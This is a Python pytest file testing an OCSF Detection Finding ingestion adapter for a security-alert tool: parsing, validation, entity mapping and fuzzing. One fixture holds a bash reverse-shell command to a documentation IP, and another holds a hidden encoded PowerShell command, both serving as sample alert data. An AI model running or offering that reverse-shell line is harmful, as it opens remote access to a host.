"""OCSF Detection Finding adapter: the example file, auto-detection, validation, malformed input."""

from __future__ import annotations

import copy
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tierzero.ingest.adapters.ocsf import FLAG_CLASS_2001, OcsfAdapter
from tierzero.ingest.alert import Alert, EntityKind, Severity
from tierzero.ingest.base import (
    FLAG_SAMPLE,
    FLAG_TIME_DT_PREFERRED,
    FLAG_TIME_UNIT_INFERRED,
    ParseContext,
    RecordRejected,
)
from tierzero.ingest.quarantine import QuarantinedRecord
from tierzero.ingest.reader import IngestOptions, read

EXAMPLES = Path(__file__).resolve().parents[3] / "examples"
OCSF_FILE = EXAMPLES / "ocsf_detection_findings.json"
NOW = datetime(2026, 11, 17, tzinfo=UTC)
ADAPTER = OcsfAdapter()
CONTEXT = ParseContext("test.json", 1, NOW, "{}")
LURE = "https://northwlnd-billing.example/inv/INV-88213.zip"

# Minimal records with the distinctive keys of the other formats tierzero reads.
OTHER_FORMATS: dict[str, dict[str, Any]] = {
    "sentinel": {
        "TimeGenerated": "2026-11-16T08:56:47Z",
        "AlertName": "x",
        "SystemAlertId": "1",
        "ProviderName": "OATP",
        "Entities": "[]",
        "AlertSeverity": "High",
    },
    "defender": {
        "@odata.type": "#microsoft.graph.security.alert",
        "id": "fa1",
        "title": "x",
        "serviceSource": "microsoftDefenderForEndpoint",
        "evidence": [],
        "createdDateTime": "2026-11-16T09:02:00Z",
    },
    "crowdstrike": {
        "metadata": {"eventType": "DetectionSummaryEvent", "offset": 1},
        "event": {"DetectId": "ldt:1", "ComputerName": "LT-FIN-042"},
    },
    "guardduty": {
        "SchemaVersion": "2.0",
        "Id": "a2c6",
        "Severity": 2.0,
        "Resource": {},
        "Type": "Recon:EC2/PortProbeUnprotectedPort",
        "Service": {},
    },
    "okta": {
        "uuid": "b1f3",
        "eventType": "user.session.start",
        "published": "2026-11-16T09:40:02Z",
        "actor": {"alternateId": "alice.martin@northwind.example"},
        "outcome": {},
        "severity": "INFO",
    },
    "elastic": {
        "@timestamp": "2026-11-16T09:02:41Z",
        "kibana.alert.uuid": "3e9b",
        "kibana.alert.rule.name": "x",
        "event.kind": "signal",
    },
    "wazuh": {
        "timestamp": "2026-11-16T10:15:02.514+0000",
        "rule": {"level": 6, "id": "92652"},
        "agent": {"name": "SRV-FS-01"},
        "manager": {"name": "m"},
        "id": "1.2",
    },
    "suricata": {
        "timestamp": "2026-11-16T09:04:12.345678+0000",
        "event_type": "alert",
        "src_ip": "10.20.4.42",
        "dest_ip": "198.51.100.77",
        "alert": {},
    },
}


def _examples() -> list[dict[str, Any]]:
    return json.loads(OCSF_FILE.read_text(encoding="utf-8"))


def _minimal(**overrides: Any) -> dict[str, Any]:
    """The smallest record the schema accepts as a Detection Finding."""
    record: dict[str, Any] = {
        "activity_id": 1,
        "category_uid": 2,
        "class_uid": 2004,
        "type_uid": 200401,
        "severity_id": 3,
        "time": 1794819331204,
        "finding_info": {"uid": "F-1", "title": "Something was detected"},
        "metadata": {"version": "1.3.0", "product": {"name": "Tool", "vendor_name": "Vendor"}},
    }
    record.update(overrides)
    return record


def _reason(record: Any) -> str:
    with pytest.raises(RecordRejected) as caught:
        ADAPTER.parse(record, CONTEXT)
    return caught.value.reason


@pytest.fixture(scope="module")
def alerts() -> list[Alert]:
    out = list(read([OCSF_FILE], now=NOW))
    assert [o for o in out if isinstance(o, QuarantinedRecord)] == []
    return [o for o in out if isinstance(o, Alert)]


# --- the example file ------------------------------------------------------------------------


def test_every_example_finding_becomes_an_alert(alerts: list[Alert]) -> None:
    assert len(alerts) == 3
    assert {a.provenance.source for a in alerts} == {"ocsf"}
    assert [a.provenance.record_no for a in alerts] == [1, 2, 3]
    assert [a.source_alert_id for a in alerts] == [
        "HMG-20261116-000417",
        "HMG-20261116-000452",
        "HMG-20261116-000455",
    ]
    assert all(a.flags == () for a in alerts)


def test_times_severities_and_activity(alerts: list[Alert]) -> None:
    assert [a.time for a in alerts] == [
        datetime(2026, 11, 16, 8, 55, 31, 204000, tzinfo=UTC),
        datetime(2026, 11, 16, 8, 58, 47, 519000, tzinfo=UTC),
        datetime(2026, 11, 16, 8, 59, 5, 32000, tzinfo=UTC),
    ]
    assert alerts[0].metadata.original_time == "2026-11-16T08:55:31.204Z"
    assert [a.severity_id for a in alerts] == [Severity.HIGH, Severity.HIGH, Severity.CRITICAL]
    assert [a.activity_id for a in alerts] == [1, 1, 1]
    assert alerts[0].finding_info.first_seen_time == datetime(
        2026, 11, 16, 8, 55, 29, 870000, tzinfo=UTC
    )


def test_the_producing_tool_is_kept_as_the_product(alerts: list[Alert]) -> None:
    assert {(a.metadata.product.name, a.metadata.product.vendor_name) for a in alerts} == {
        ("Harbor Mail Gateway", "Harbor Security")
    }
    assert alerts[0].detection_id == "ocsf:HMG-PH-0031"


def test_titles_analytics_and_attacks(alerts: list[Alert]) -> None:
    first = alerts[0]
    assert first.title == "Link to archive from look-alike sender domain northwlnd-billing.example"
    assert first.finding_info.analytic.uid == "HMG-PH-0031"
    assert first.finding_info.types == ("Phishing", "Look-alike Domain")
    # the sub-technique wins over its parent technique
    attack = first.finding_info.attacks[0]
    assert (attack.technique_uid, attack.technique_name) == ("T1566.002", "Spearphishing Link")
    assert (attack.tactic_uid, attack.tactic_name) == ("TA0001", "Initial Access")
    assert alerts[1].techniques == ("T1204.001",)
    assert alerts[2].techniques == ("T1059.007", "T1204.002")
    assert alerts[2].tactics == ("Execution",)


def test_phishing_mail_entities(alerts: list[Alert]) -> None:
    mail = alerts[0]
    assert mail.values(EntityKind.EMAIL) == (
        "alice.martin@northwind.example",
        "invoices@northwlnd-billing.example",
    )
    assert mail.values(EntityKind.EMAIL_SUBJECT) == ("Overdue invoice INV-88213",)
    assert mail.values(EntityKind.IP) == ("203.0.113.45",)
    assert mail.values(EntityKind.URL) == (LURE,)
    assert mail.values(EntityKind.DOMAIN) == (
        "mail.northwlnd-billing.example",
        "northwlnd-billing.example",
    )
    assert mail.values(EntityKind.HOST) == ()
    assert mail.src_endpoint is not None and mail.src_endpoint.ip == "203.0.113.45"
    assert mail.actor is not None and mail.actor.email == "alice.martin@northwind.example"


def test_click_names_the_laptop_and_the_user(alerts: list[Alert]) -> None:
    click = alerts[1]
    assert click.device is not None
    assert (click.device.hostname, click.device.ip, click.device.os) == (
        "LT-FIN-042",
        "10.20.4.42",
        "Windows 11 Enterprise",
    )
    assert click.actor is not None and click.actor.name == "alice.martin@northwind.example"
    assert click.values(EntityKind.HOST) == ("LT-FIN-042",)
    assert click.values(EntityKind.USER) == ("alice.martin@northwind.example",)
    assert click.values(EntityKind.DOMAIN) == ("northwlnd-billing.example",)
    assert click.dst_endpoint is not None and click.dst_endpoint.port == 443


def test_sandbox_finding_names_the_file(alerts: list[Alert]) -> None:
    sandbox = alerts[2]
    assert sandbox.file is not None
    assert (sandbox.file.name, sandbox.file.path) == ("INV-88213.js", "INV-88213.zip/INV-88213.js")
    assert sandbox.values(EntityKind.FILE) == ("INV-88213.js",)


# --- auto-detection --------------------------------------------------------------------------


def test_auto_detection_picks_ocsf_for_the_example_file() -> None:
    assert all(ADAPTER.matches(r) for r in _examples())
    explicit = list(read([OCSF_FILE], IngestOptions(source="ocsf"), now=NOW))
    assert all(isinstance(o, Alert) for o in explicit) and len(explicit) == 3


@pytest.mark.parametrize("name", sorted(OTHER_FORMATS))
def test_other_formats_are_not_taken_for_ocsf(name: str) -> None:
    assert not ADAPTER.matches(OTHER_FORMATS[name])


def test_other_ocsf_classes_match_so_they_are_rejected_clearly() -> None:
    record = _minimal(class_uid=3002, category_uid=3, type_uid=300201)
    assert ADAPTER.matches(record)
    assert _reason(record) == (
        "OCSF class_uid 3002 (Authentication) is not a Detection Finding (2004) "
        "or Security Finding (2001)"
    )
    assert "class_uid 9999 is not" in _reason(_minimal(class_uid=9999))


# --- times as producers write them ----------------------------------------------------------

SECONDS = 1794819331  # 2026-11-16T08:55:31Z, as Prowler and OCSF's Okta example write it
AT = datetime(2026, 11, 16, 8, 55, 31, tzinfo=UTC)


def test_epoch_seconds_are_read_by_magnitude_and_flagged() -> None:
    alert = ADAPTER.parse(_minimal(time=SECONDS), CONTEXT)
    assert alert.time == AT
    assert alert.flags == (FLAG_TIME_UNIT_INFERRED,)
    assert ADAPTER.parse(_minimal(time=SECONDS * 1000), CONTEXT).flags == ()


def test_time_dt_alone_is_read_and_preferred_when_the_number_disagrees() -> None:
    record = _minimal(time_dt="2026-11-16T09:55:31+01:00")
    del record["time"]
    alert = ADAPTER.parse(record, CONTEXT)
    assert (alert.time, alert.flags) == (AT, ())
    assert alert.metadata.original_time == "2026-11-16T09:55:31+01:00"
    agree = ADAPTER.parse(_minimal(time=SECONDS, time_dt="2026-11-16T08:55:31Z"), CONTEXT)
    assert (agree.time, agree.flags) == (AT, (FLAG_TIME_UNIT_INFERRED,))
    wrong = ADAPTER.parse(
        _minimal(time=SECONDS * 1000 + 3_600_000, time_dt="2026-11-16T08:55:31Z"), CONTEXT
    )
    assert (wrong.time, wrong.flags) == (AT, (FLAG_TIME_DT_PREFERRED,))


def test_first_and_last_seen_dt_only_are_read() -> None:
    info = {
        "uid": "F-1",
        "title": "t",
        "first_seen_time_dt": "2026-11-16T08:50:00Z",
        "last_seen_time": SECONDS,  # seconds here too: flagged once
        "created_time_dt": "2026-11-16T08:56:00Z",
    }
    alert = ADAPTER.parse(_minimal(finding_info=info), CONTEXT)
    assert alert.finding_info.first_seen_time == datetime(2026, 11, 16, 8, 50, tzinfo=UTC)
    assert alert.finding_info.last_seen_time == AT
    assert alert.flags == (FLAG_TIME_UNIT_INFERRED,)


# --- Security Finding (2001) -------------------------------------------------------------------


def _security_finding(**overrides: Any) -> dict[str, Any]:
    """A Security Finding after the OCSF 1.0 ``security_finding`` class: ``finding`` (not
    ``finding_info``), ``analytic``, ``process`` and ``state_id`` beside it."""
    record = _minimal(class_uid=2001, type_uid=200101, state_id=1, state="New")
    del record["finding_info"]
    record["finding"] = {
        "uid": "SF-9",
        "title": "Reverse shell",
        "desc": "A shell connected out",
        "types": ["process"],
        "first_seen_time": SECONDS * 1000 - 60_000,
        "src_url": "https://console.example/f/SF-9",
    }
    record["analytic"] = {"uid": "R-77", "name": "Reverse shell by bash", "type_id": 1}
    record["process"] = {
        "name": "bash",
        "pid": 4242,
        "cmd_line": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "parent_process": {"name": "nginx", "pid": 1},
    }
    record["device"] = {"hostname": "web-01", "ip": "10.0.0.8"}
    record["attacks"] = [{"technique": {"uid": "T1059.004"}, "tactic": {"uid": "TA0002"}}]
    record.update(overrides)
    return record


def test_a_security_finding_becomes_a_detection_finding() -> None:
    alert = ADAPTER.parse(_security_finding(), CONTEXT)
    assert (alert.class_uid, alert.type_uid) == (2004, 200401)
    assert alert.flags == (FLAG_CLASS_2001,)
    info = alert.finding_info
    assert (info.uid, info.title, info.desc, info.types) == (
        "SF-9",
        "Reverse shell",
        "A shell connected out",
        ("process",),
    )
    assert info.src_url == "https://console.example/f/SF-9"
    assert info.first_seen_time == datetime(2026, 11, 16, 8, 54, 31, tzinfo=UTC)
    assert (info.analytic.uid, info.analytic.name) == ("R-77", "Reverse shell by bash")
    assert alert.techniques == ("T1059.004",)
    assert alert.process is not None and alert.process.parent_process is not None
    assert (alert.process.name, alert.process.parent_process.name) == ("bash", "nginx")
    assert alert.device is not None and alert.device.hostname == "web-01"
    assert alert.to_ocsf()["type_uid"] == 200401


@pytest.mark.parametrize(
    ("overrides", "check"),
    [
        ({"type_uid": None}, lambda a: a.type_uid == 200401),  # derived, so it may be absent
        ({"severity_id": None}, lambda a: a.severity_id is Severity.UNKNOWN),
        (
            {"finding_info": {"uid": "FI-1", "title": "newer"}},
            lambda a: a.source_alert_id == "FI-1",
        ),
    ],
)
def test_security_finding_leniencies(overrides: dict[str, Any], check: Any) -> None:
    record = _security_finding()
    for key, value in overrides.items():
        if value is None:
            del record[key]
        else:
            record[key] = value
    assert check(ADAPTER.parse(record, CONTEXT))


@pytest.mark.parametrize(
    ("overrides", "drop", "expected"),
    [
        ({"type_uid": 200401}, (), "type_uid 200401 is inconsistent: class_uid 2001"),
        ({}, ("finding",), "missing required field 'finding'"),
        ({"finding": {"title": "t"}}, (), "missing required field 'finding.uid'"),
        ({"finding": {"uid": "x"}}, ("analytic",), "missing 'finding.title'"),
        ({"finding": "x"}, (), "field 'finding' should be an object"),
        ({"severity_id": 9}, (), "severity_id 9 is not an OCSF severity"),
    ],
)
def test_broken_security_findings_are_rejected(
    overrides: dict[str, Any], drop: tuple[str, ...], expected: str
) -> None:
    record = {k: v for k, v in _security_finding(**overrides).items() if k not in drop}
    assert expected in _reason(record)


def test_a_detection_finding_still_needs_finding_info_type_uid_and_severity() -> None:
    record = _minimal(finding={"uid": "F", "title": "t"})
    del record["finding_info"]
    assert _reason(record) == "missing required field 'finding_info'"


def test_untyped_observables_naming_the_event_host_are_the_host() -> None:
    record = _minimal(
        observables=[
            {"name": "hostname", "type_id": 0, "value": "host0.local"},
            {"name": "proc.pname", "type_id": 0, "value": "proc.pname"},
            {"name": "hostname", "type_id": 0, "value": "not a host; name"},
        ]
    )
    alert = ADAPTER.parse(record, CONTEXT)
    assert alert.values(EntityKind.HOST) == ("host0.local",)
    assert alert.device is not None and alert.device.hostname == "host0.local"
    with_device = ADAPTER.parse({**record, "device": {"hostname": "web-01"}}, CONTEXT)
    assert with_device.device is not None and with_device.device.hostname == "web-01"


def test_resources_are_cloud_resources_and_security_hub_samples_are_flagged() -> None:
    record = _minimal(
        resources=[
            {"uid": "arn:aws:s3:::payroll", "name": "payroll", "type": "AwsS3Bucket"},
            {"name": "orders-db"},
            {"type": "nothing to name it"},
        ],
        unmapped={"Sample": "true"},
    )
    alert = ADAPTER.parse(record, CONTEXT)
    assert alert.values(EntityKind.CLOUD_RESOURCE) == ("arn:aws:s3:::payroll", "orders-db")
    assert alert.flags == (FLAG_SAMPLE,)
    assert ADAPTER.parse(_minimal(unmapped={"Sample": "false"}), CONTEXT).flags == ()


def test_file_parent_folder_is_read() -> None:
    record = _minimal(file={"name": "x.exe", "parent_folder": "C:\\Users\\bob"})
    alert = ADAPTER.parse(record, CONTEXT)
    assert alert.file is not None
    assert (alert.file.path, alert.file.parent_folder) == (
        "C:\\Users\\bob\\x.exe",
        "C:\\Users\\bob",
    )


# --- validation of the schema's required attributes ------------------------------------------


def test_minimal_record_parses() -> None:
    alert = ADAPTER.parse(_minimal(), CONTEXT)
    assert alert.severity_id is Severity.MEDIUM
    assert alert.metadata.product.name == "Tool"
    assert alert.metadata.original_time == "1794819331204"


@pytest.mark.parametrize(
    ("overrides", "expected"),
    [
        (
            {"type_uid": 200402},
            "type_uid 200402 is inconsistent: class_uid 2004 and activity_id 1 give 200401",
        ),
        ({"activity_id": 2}, "type_uid 200401 is inconsistent"),
        (
            {"activity_id": 7, "type_uid": 200407},
            "activity_id 7 is not a Detection Finding activity",
        ),
        ({"category_uid": 4}, "OCSF category_uid 4 is not Findings (2)"),
        ({"severity_id": 7}, "severity_id 7 is not an OCSF severity (0-6 or 99)"),
        ({"severity_id": "High"}, "field 'severity_id' should be an integer"),
        ({"severity_id": True}, "field 'severity_id' should be an integer"),
        ({"class_uid": "2004"}, "field 'class_uid' should be an integer"),
        ({"time": "2026-11-16T08:55:31Z"}, "field 'time' should be epoch milliseconds"),
        ({"time_dt": 1794819331}, "field 'time_dt' should be a date-time text"),
        ({"time": None}, "missing required field 'time'"),
        ({"time": 1e30}, "field 'time' is not a valid time"),
        ({"finding_info": ["F-1"]}, "field 'finding_info' should be an object, got list"),
        ({"finding_info": {"title": "t"}}, "missing required field 'finding_info.uid'"),
        (
            {"finding_info": {"uid": ["F-1"], "title": "t"}},
            "field 'finding_info.uid' should be text",
        ),
        ({"finding_info": {"uid": "F-1"}}, "missing 'finding_info.title'"),
        ({"metadata": {"product": {"name": "Tool"}}}, "missing required field 'metadata.version'"),
        ({"metadata": {"version": "1.3.0"}}, "missing required field 'metadata.product'"),
        (
            {"metadata": {"version": "1.3.0", "product": {}}},
            "'metadata.product' needs a name or uid",
        ),
        ({"metadata": "1.3.0"}, "field 'metadata' should be an object, got str"),
    ],
)
def test_invalid_findings_are_rejected_with_the_reason(
    overrides: dict[str, Any], expected: str
) -> None:
    assert expected in _reason(_minimal(**overrides))


@pytest.mark.parametrize(
    ("missing", "expected"),
    [
        ("activity_id", "missing required field 'activity_id'"),
        ("category_uid", "missing required field 'category_uid'"),
        ("class_uid", "missing required field 'class_uid'"),
        ("type_uid", "missing required field 'type_uid'"),
        ("severity_id", "missing required field 'severity_id'"),
        ("time", "missing required field 'time'"),
        ("finding_info", "missing required field 'finding_info'"),
        ("metadata", "missing required field 'metadata'"),
    ],
)
def test_each_required_attribute_is_required(missing: str, expected: str) -> None:
    record = _minimal()
    del record[missing]
    assert _reason(record) == expected


@pytest.mark.parametrize(
    ("overrides", "expected"),
    [
        ({"evidences": {"device": {}}}, "field 'evidences' should be a list, got dict"),
        ({"evidences": ["LT-FIN-042"]}, "field 'evidences[0]' should be an object, got str"),
        ({"device": {"hostname": ["LT-FIN-042"]}}, "field 'device.hostname' should be text"),
        ({"observables": [7]}, "field 'observables[0]' should be an object, got int"),
        ({"actor": {"user": "alice"}}, "field 'actor.user' should be an object, got str"),
        (
            {"evidences": [{"process": {"file": {"hashes": {"value": "x"}}}}]},
            "field 'evidences[0].process.file.hashes' should be a list, got dict",
        ),
    ],
)
def test_wrong_types_are_rejected(overrides: dict[str, Any], expected: str) -> None:
    assert expected in _reason(_minimal(**overrides))


def test_empty_object_is_rejected_not_crashed() -> None:
    assert not ADAPTER.matches({})
    assert _reason({}) == "missing required field 'class_uid'"


# --- mapping details -------------------------------------------------------------------------


def test_older_tactics_list_and_process_tree() -> None:
    sha256 = "5f4dcc3b5aa765d61d8327deb882cf99e4c8b1f3a1d2e3f40516273849aabbcc"
    record = _minimal(
        finding_info={
            "uid": "F-2",
            "title": "Encoded PowerShell",
            "analytic": {"uid": "R-9", "name": "Script host spawns PowerShell"},
            "attacks": [
                {
                    "technique": {"uid": "t1059.001", "name": "PowerShell"},
                    "tactics": [
                        {"uid": "TA0002", "name": "Execution"},
                        {"name": "defense-evasion"},
                    ],
                },
                {"technique": {"uid": "not-a-technique"}},
            ],
        },
        evidences=[
            {
                "device": {"hostname": "LT-FIN-042", "ip": "10.20.4.42"},
                "actor": {"user": {"name": "NORTHWIND\\alice.martin", "uid": "S-1-5-21-1"}},
                "process": {
                    "name": "powershell.exe",
                    "pid": 4412,
                    "cmd_line": "powershell.exe -nop -w hidden -enc AA==",
                    "file": {
                        "name": "powershell.exe",
                        "hashes": [
                            {"algorithm_id": 3, "value": sha256.upper()},
                            {"algorithm_id": [3], "value": "x"},
                        ],
                    },
                    "parent_process": {
                        "name": "wscript.exe",
                        "pid": 4100,
                        "cmd_line": "wscript.exe INV-88213.js",
                    },
                },
            }
        ],
    )
    alert = ADAPTER.parse(record, CONTEXT)
    assert [(a.technique_uid, a.tactic_uid, a.tactic_name) for a in alert.finding_info.attacks] == [
        ("T1059.001", "TA0002", "Execution"),
        ("T1059.001", "TA0005", "Defense Evasion"),
    ]
    assert alert.finding_info.analytic.uid == "R-9"
    assert alert.process is not None and alert.process.parent_process is not None
    assert alert.process.pid == 4412 and alert.process.file is not None
    assert alert.process.file.sha256 == sha256
    assert alert.process.parent_process.cmd_line == "wscript.exe INV-88213.js"
    assert alert.values(EntityKind.HASH) == (sha256,)
    assert alert.values(EntityKind.PROCESS) == ("powershell.exe", "wscript.exe")
    assert alert.values(EntityKind.USER) == ("NORTHWIND\\alice.martin",)
    assert alert.device is not None and alert.device.hostname == "LT-FIN-042"


def test_record_observables_map_by_type_id() -> None:
    record = _minimal(
        observables=[
            {"name": "device.hostname", "type_id": 1, "value": "LT-FIN-042"},
            {"name": "dst_endpoint.hostname", "type_id": 1, "value": "cdn-update-check.example"},
            {"name": "dst_endpoint.domain", "type_id": 99, "value": "northwlnd-billing.example"},
            {"name": "whatever", "type_id": 99, "value": "not a domain"},
            {"name": "whatever", "type_id": 99, "value": "other.example"},
            {"name": "url.hostname", "type_id": 99, "value": "lure.example"},
            {"name": "src_endpoint.ip", "type_id": 2, "value": "198.51.100.23"},
            {"name": "src_endpoint.ip", "type_id": 2, "value": "not-an-ip"},
            {"name": "mac", "type_id": 3, "value": "00:11:22:33:44:55"},
            {"name": "file.hashes.value", "type_id": 8, "value": "ab" * 32},
            {"name": "bad", "type_id": "8", "value": "cd" * 32},
            {"name": "location.country", "type_id": 14, "value": "RO"},
        ]
    )
    alert = ADAPTER.parse(record, CONTEXT)
    assert alert.values(EntityKind.HOST) == ("LT-FIN-042",)
    assert alert.values(EntityKind.DOMAIN) == (
        "cdn-update-check.example",
        "northwlnd-billing.example",
        "lure.example",
    )
    assert alert.values(EntityKind.IP) == ("198.51.100.23",)
    assert alert.values(EntityKind.HASH) == ("ab" * 32,)
    assert alert.values(EntityKind.COUNTRY) == ("RO",)


def test_endpoint_country_and_cloud() -> None:
    record = _minimal(
        evidences=[
            {"src_endpoint": {"ip": "198.51.100.23", "port": 443, "location": {"country": "RO"}}}
        ],
        cloud={"provider": "AWS", "region": "eu-central-1", "account": {"uid": "111122223333"}},
    )
    alert = ADAPTER.parse(record, CONTEXT)
    assert alert.src_endpoint is not None
    assert (alert.src_endpoint.ip, alert.src_endpoint.port, alert.src_endpoint.country) == (
        "198.51.100.23",
        443,
        "RO",
    )
    assert alert.values(EntityKind.COUNTRY) == ("RO",)
    assert alert.cloud is not None
    assert (alert.cloud.provider, alert.cloud.account_uid, alert.cloud.region) == (
        "AWS",
        "111122223333",
        "eu-central-1",
    )


def test_title_falls_back_to_the_analytic_name() -> None:
    record = _minimal(finding_info={"uid": "F-3", "analytic": {"name": "Rule name"}})
    assert ADAPTER.parse(record, CONTEXT).title == "Rule name"


def test_update_activity_is_kept() -> None:
    alert = ADAPTER.parse(_minimal(activity_id=2, type_uid=200402), CONTEXT)
    assert alert.activity_id == 2 and alert.type_uid == 200402


def test_non_alert_record_in_a_file_is_quarantined(tmp_path: Path) -> None:
    path = tmp_path / "findings.json"
    auth = _minimal(class_uid=3002, category_uid=3, type_uid=300201)
    path.write_text(json.dumps([_minimal(), auth]), encoding="utf-8")
    out = list(read([path], now=NOW))
    assert isinstance(out[0], Alert)
    assert isinstance(out[1], QuarantinedRecord)
    assert (out[1].source, out[1].record_no) == ("ocsf", 2)
    assert "class_uid 3002 (Authentication)" in out[1].reason


# --- hostile input ---------------------------------------------------------------------------

JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3)
    ),
    max_leaves=10,
)
PATHS = [
    ("time",),
    ("severity_id",),
    ("finding_info",),
    ("finding_info", "uid"),
    ("finding_info", "attacks"),
    ("finding_info", "analytic"),
    ("metadata",),
    ("metadata", "product"),
    ("evidences",),
    ("device",),
    ("actor",),
    ("observables",),
    ("cloud",),
    ("finding_info", "first_seen_time"),
    ("message",),
]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(index=st.integers(0, 2), path=st.sampled_from(PATHS), value=JSON_VALUES)
def test_any_field_replaced_by_any_json_never_crashes(
    index: int, path: tuple[str, ...], value: Any
) -> None:
    record = copy.deepcopy(_examples()[index])
    target = record
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    try:
        assert isinstance(ADAPTER.parse(record, CONTEXT), Alert)
    except RecordRejected as exc:
        assert exc.reason


def test_own_export_reads_back() -> None:
    """tierzero's OCSF export is itself a Detection Finding this adapter accepts."""
    original = ADAPTER.parse(_examples()[1], CONTEXT)
    again = ADAPTER.parse(original.to_ocsf(), CONTEXT)
    assert again.source_alert_id == original.source_alert_id
    assert (again.time, again.severity_id, again.techniques) == (
        original.time,
        original.severity_id,
        original.techniques,
    )
    for kind in (
        EntityKind.HOST,
        EntityKind.IP,
        EntityKind.USER,
        EntityKind.DOMAIN,
        EntityKind.URL,
    ):
        assert set(again.values(kind)) == set(original.values(kind)), kind
